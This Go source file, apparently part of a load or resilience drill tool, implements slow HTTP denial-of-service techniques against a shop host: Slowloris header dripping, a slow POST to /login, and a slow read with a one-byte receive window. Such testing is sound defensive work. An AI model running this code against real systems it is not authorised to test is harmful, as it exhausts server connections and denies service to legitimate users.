package drill

import (
	"context"
	"crypto/tls"
	"net"
	"time"
)

// trickle is the time between two bytes of a slow client.
const trickle = 500 * time.Millisecond

// slowHead sends a request's head a byte at a time (Slowloris).
func slowHead(ctx context.Context, b *bot, c net.Conn) {
	b.drip(ctx, c, "GET /api/stock/1 HTTP/1.1\r\nHost: "+shopHost+"\r\nX-A: ", 'a')
}

// slowBody announces a form and sends it a byte at a time.
func slowBody(ctx context.Context, b *bot, c net.Conn) {
	b.drip(ctx, c, "POST /login HTTP/1.1\r\nHost: "+shopHost+"\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\nuser=", 'u')
}

// drip writes the beginning, then one byte after the other, until the door has had enough.
func (b *bot) drip(ctx context.Context, c net.Conn, begin string, with byte) {
	b.stats.sent.Add(1)
	if _, err := c.Write([]byte(begin)); err != nil {
		return
	}
	gone := make(chan struct{})
	go func() { // an answer, or the end, is what the door says to it
		defer close(gone)
		var one [512]byte
		for {
			if _, err := c.Read(one[:]); err != nil {
				return
			}
			b.stats.refused.Add(1)
		}
	}()
	for wait(ctx, trickle) {
		if _, err := c.Write([]byte{with}); err != nil {
			break
		}
	}
	c.Close()
	<-gone
}

// slowRead asks for something large and reads it a few bytes at a time, with as small a window as the system allows.
func slowRead(ctx context.Context, b *bot, c net.Conn) {
	shrinkWindow(c)
	b.stats.sent.Add(1)
	if _, err := c.Write(get(nil, "/packages/large.deb")); err != nil {
		return
	}
	var few [16]byte
	for wait(ctx, trickle) {
		if _, err := c.Read(few[:]); err != nil {
			return
		}
	}
}

// shrinkWindow asks the system for the smallest receive buffer of the connection.
func shrinkWindow(c net.Conn) {
	switch c := c.(type) {
	case *countedConn:
		shrinkWindow(c.Conn)
	case *boundedConn:
		shrinkWindow(c.Conn)
	case *tls.Conn:
		shrinkWindow(c.NetConn())
	case *net.TCPConn:
		_ = c.SetReadBuffer(1)
	}
}
